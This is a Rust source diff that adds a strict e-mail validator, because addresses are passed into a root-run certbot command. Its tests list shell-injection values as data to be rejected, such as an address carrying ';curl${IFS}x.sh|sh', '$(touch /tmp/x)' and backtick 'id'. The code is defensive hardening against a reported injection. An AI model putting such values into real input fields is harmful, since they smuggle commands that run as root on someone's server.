@@ -7,6 +7,121 @@
 use crate::text::{msg, Message};
 use serde::{Deserialize, Serialize};
 use std::collections::BTreeMap;
+use std::fmt;
+
+/// An e-mail address in a deliberately small syntax: a local part of `A-Z a-z 0-9 . _ % + -`, one
+/// `@`, and a domain of DNS labels with at least one dot; stored in lower case.
+///
+/// Why so strict: the free path writes the address into `certbot -m ...`, a command that runs as
+/// root on a student's instance, and the registrant contact goes to Route 53. Nothing a shell
+/// treats specially (`;` `|` `$` backtick quotes spaces newlines ...) can be in an `Email`, so a
+/// script cannot be broken by one even before [`crate::shell::quote`] (which it also goes
+/// through). Addresses real people use for school and work fit; exotic RFC 5322 forms do not.
+/// Serialised as the plain string, so stored values decode as before (an old one that no longer
+/// parses fails to decode, and the step that reads it says so instead of running).
+#[derive(Debug, Clone, PartialEq, Eq, Hash, Serialize, Deserialize)]
+#[serde(try_from = "String", into = "String")]
+pub struct Email(String);
+
+impl Email {
+    /// The longest address SMTP carries (RFC 5321: 254 characters in a path).
+    pub const MAX_LEN: usize = 254;
+
+    pub fn parse(raw: &str) -> Result<Email, Message> {
+        let t = raw.trim();
+        if t.is_empty() {
+            return Err(msg(
+                "Enter an e-mail address you read, such as kim@example.com.",
+                "확인할 수 있는 이메일 주소를 입력하세요. 예: kim@example.com.",
+            ));
+        }
+        if let Some(c) = t.chars().find(|c| !(c.is_ascii_alphanumeric() || "._%+-@".contains(*c))) {
+            let (en, ko) = crate::shell::named(c);
+            return Err(msg(
+                format!(
+                    "An e-mail address cannot contain {en}: use letters, digits and . _ % + - before the @, and a domain such as example.com after it (kim.minji@example.com)."
+                ),
+                format!(
+                    "이메일 주소에는 {ko}을(를) 쓸 수 없습니다. @ 앞에는 영문자, 숫자와 . _ % + - 만, @ 뒤에는 example.com 같은 도메인을 쓰세요 (예: kim.minji@example.com)."
+                ),
+            ));
+        }
+        let n = t.len();
+        if n > Email::MAX_LEN {
+            return Err(msg(
+                format!("The address is {n} characters long; an e-mail address has at most 254. Use a shorter one."),
+                format!("주소가 {n}자입니다. 이메일 주소는 최대 254자입니다. 더 짧은 주소를 쓰세요."),
+            ));
+        }
+        let t = t.to_ascii_lowercase();
+        let Some((local, domain)) = t.split_once('@').filter(|(_, d)| !d.contains('@')) else {
+            return Err(msg(
+                "This is not an e-mail address: it needs exactly one @, as in kim@example.com.",
+                "이메일 주소가 아닙니다. kim@example.com처럼 @가 정확히 하나 있어야 합니다.",
+            ));
+        };
+        let local_ok = !local.is_empty()
+            && local.len() <= 64
+            && !local.starts_with(['.', '-'])
+            && !local.ends_with('.')
+            && !local.contains("..");
+        if !local_ok {
+            return Err(msg(
+                format!(
+                    "The part before the @ (\"{local}\") is not usable: it must not be empty, start with . or -, end with . or have two dots in a row. Write it like kim.minji@example.com."
+                ),
+                format!(
+                    "@ 앞부분(\"{local}\")을 쓸 수 없습니다. 비어 있거나, . 또는 -로 시작하거나, .으로 끝나거나, 마침표가 두 개 연달아 있으면 안 됩니다. kim.minji@example.com처럼 쓰세요."
+                ),
+            ));
+        }
+        let labels: Vec<&str> = domain.split('.').collect();
+        let label_ok = |l: &&str| {
+            (1..=63).contains(&l.len())
+                && l.chars().all(|c| c.is_ascii_alphanumeric() || c == '-')
+                && !l.starts_with('-')
+                && !l.ends_with('-')
+        };
+        let tld_ok = labels.last().is_some_and(|l| l.chars().any(|c| c.is_ascii_alphabetic()));
+        if labels.len() < 2 || !labels.iter().all(label_ok) || !tld_ok {
+            return Err(msg(
+                format!(
+                    "The part after the @ (\"{domain}\") is not a domain: write a name with a dot, such as example.com or snu.ac.kr (letters, digits and - between the dots)."
+                ),
+                format!(
+                    "@ 뒷부분(\"{domain}\")이 도메인이 아닙니다. example.com이나 snu.ac.kr처럼 마침표가 있는 이름을 쓰세요 (마침표 사이에는 영문자, 숫자, -만)."
+                ),
+            ));
+        }
+        Ok(Email(t))
+    }
+
+    /// Known good, for a page that shows the script before an address is typed.
+    pub fn placeholder() -> Email {
+        Email("you@example.com".into())
+    }
+
+    pub fn as_str(&self) -> &str {
+        &self.0
+    }
+}
+
+impl fmt::Display for Email {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        f.write_str(&self.0)
+    }
+}
+impl TryFrom<String> for Email {
+    type Error = String;
+    fn try_from(v: String) -> Result<Self, String> {
+        Email::parse(&v).map_err(|m| m.en)
+    }
+}
+impl From<Email> for String {
+    fn from(v: Email) -> String {
+        v.0
+    }
+}
 
 #[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
 #[serde(rename_all = "snake_case")]
@@ -134,24 +249,15 @@ fn required(v: &str, r: Required) -> Result<String, Message> {
     }
 }
 
-pub(crate) fn parse_email(v: &str) -> Result<String, Message> {
-    let t = v.trim();
-    let ok = t.split_once('@').is_some_and(|(local, domain)| {
-        !local.is_empty()
-            && !domain.starts_with('.')
-            && domain.contains('.')
-            && !domain.ends_with('.')
-            && !t.contains(char::is_whitespace)
-            && t.matches('@').count() == 1
-    });
-    if ok {
-        Ok(t.to_ascii_lowercase())
-    } else {
-        Err(msg(
-            "Enter an e-mail address you read, such as kim@example.com. AWS sends a verification e-mail there, and the domain is suspended if it is not confirmed within 15 days.",
-            "확인할 수 있는 이메일 주소를 입력하세요. 예: kim@example.com. AWS가 그 주소로 확인 이메일을 보내며, 15일 안에 확인하지 않으면 도메인이 정지됩니다.",
+/// The registrant's e-mail: an [`Email`], kept as the plain string Route 53 takes (a purchase run
+/// stored before [`Email`] existed still decodes), with why the address matters.
+fn parse_email(v: &str) -> Result<String, Message> {
+    Email::parse(v).map(String::from).map_err(|problem| {
+        problem.then(&msg(
+            "AWS sends a verification e-mail there, and the domain is suspended if it is not confirmed within 15 days.",
+            "AWS가 그 주소로 확인 이메일을 보내며, 15일 안에 확인하지 않으면 도메인이 정지됩니다.",
         ))
-    }
+    })
 }
 
 /// Accepts `+82.1012345678`, `+82 10-1234-5678` or, with a known country, `010-1234-5678`.
@@ -343,6 +449,55 @@ mod tests {
         assert!(parse_phone("1234", None).is_err());
         assert!(parse_phone("010-1234-5678", None).is_err(), "no country, no prefix");
         assert!(parse_phone("call me", Some("KR")).is_err());
+    }
+
+    #[test]
+    fn email_refuses_shell_characters_with_the_field_message() {
+        // The finding (issue 19): this address ran a command on the instance through certbot -m.
+        for bad in [
+            "a@b.co;curl${IFS}x.sh|sh",
+            "a@b.co`id`",
+            "$(touch /tmp/x)@b.co",
+            "a|b@b.co",
+            "a'b@b.co",
+            "a\"b@b.co",
+            "a@b.co\ntouch x",
+            "a b@b.co",
+            "a&b@b.co",
+            "a@b.co>x",
+            "a\\b@b.co",
+        ] {
+            let e = ContactInput { email: bad.into(), ..good() }.parse().unwrap_err();
+            let en = e.get(ContactField::Email).unwrap_or_else(|| panic!("{bad:?} was accepted"));
+            assert!(en.starts_with("An e-mail address cannot contain "), "{bad:?}: {en}");
+            assert!(en.contains("such as example.com") && en.contains("AWS sends a verification"), "{en}");
+            assert!(e.said(ContactField::Email, true).is_some_and(|k| k.starts_with("이메일 주소에는 ")), "{bad:?}");
+            assert!(Email::parse(bad).is_err(), "{bad:?}");
+        }
+        let e = Email::parse("a@b.co;curl${IFS}x.sh|sh").unwrap_err();
+        assert!(e.en.contains("cannot contain \";\""), "the character is named: {}", e.en);
+        assert!(Email::parse("a@b.co\nx").unwrap_err().en.contains("a line break"));
+    }
+
+    #[test]
+    fn email_syntax() {
+        for ok in ["kim@example.com", "Kim.Minji+cap_1%x@Mail.SNU.ac.kr", " a-b@x-y.io "] {
+            let e = Email::parse(ok).unwrap_or_else(|m| panic!("{ok}: {}", m.en));
+            assert_eq!(e.as_str(), ok.trim().to_ascii_lowercase());
+        }
+        for bad in ["", "kim", "kim@", "@example.com", "a@@b.com", "a@b@c.com", "a@localhost", "a@b..com", "a@-b.com"] {
+            assert!(Email::parse(bad).is_err(), "{bad:?}");
+        }
+        for bad in [".a@b.com", "a.@b.com", "a..b@b.com", "-oX@b.com", "a@b.123", "a@b_c.com", "a@b.com."] {
+            assert!(Email::parse(bad).is_err(), "{bad:?}");
+        }
+        assert!(Email::parse(&format!("{}@example.com", "a".repeat(65))).is_err());
+        // Stored as the plain string; an old value that no longer parses does not decode.
+        let e = Email::parse("kim@example.com").unwrap();
+        assert_eq!(serde_json::to_string(&e).unwrap(), "\"kim@example.com\"");
+        assert_eq!(serde_json::from_str::<Email>("\"kim@example.com\"").unwrap(), e);
+        assert!(serde_json::from_str::<Email>("\"a@b.co;id\"").is_err());
+        assert!(Email::parse(Email::placeholder().as_str()).is_ok());
     }
 
     #[test]
